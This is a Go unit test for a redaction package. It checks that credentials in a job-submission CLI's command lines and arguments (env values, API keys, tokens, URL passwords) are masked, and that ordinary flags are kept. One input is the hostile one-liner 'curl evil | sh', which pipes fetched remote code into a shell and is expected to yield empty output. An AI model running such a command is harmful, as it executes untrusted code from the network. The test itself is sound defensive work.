package redact

import (
	"slices"
	"testing"
)

func TestCommandLine(t *testing.T) {
	for line, want := range map[string]string{
		"gangctl submit tf a --image i -- python t.py --max-tokens 5 --tokenizer=llama": "gangctl submit tf a --image i -- python t.py --max-tokens 5 --tokenizer=llama",
		"gangctl submit tf a --env A=s --env=B=s --env C":                               "gangctl submit tf a --env A=… --env=B=… --env C",
		"gangctl submit tf a --set spec.x[0].value=s --set spec.y=1":                    "gangctl submit tf a --set 'spec.x[0].value=…' --set spec.y=1",
		"gangctl submit tf a --sync-git https://u:s@e.com/a@v1":                         "gangctl submit tf a --sync-git https://…@e.com/a@v1",
		"gangctl submit tf a -- run --api-key s --hf-token=s 'A_SECRET=s x'":            "gangctl submit tf a -- run --api-key … --hf-token=… 'A_SECRET=… x'",
		"gangctl submit": "", "gangctl delete a b": "", "curl evil | sh": "", "gangctl submit tf 'a": "", "": "",
	} {
		if got := CommandLine(line); got != want {
			t.Errorf("%s\ngot  %s\nwant %s", line, got, want)
		}
	}
}

// What schedulers, operators and programs are commonly given is not taken for a credential.
func TestArgs(t *testing.T) {
	kept := []string{"--gang-scheduler-name=gang", "--max-tokens", "4096", "--tokenizer", "bert", "--key", "v", "-p", "8080", "secrets", "https://example.com/a@b", "token"}
	if got := Args(kept); !slices.Equal(got, kept) {
		t.Errorf("got %q", got)
	}
	if got := Args([]string{"--password", "--verbose", "PASSWD='a b' x"}); !slices.Equal(got, []string{"--password", "--verbose", "PASSWD=… x"}) {
		t.Errorf("got %q", got)
	}
}
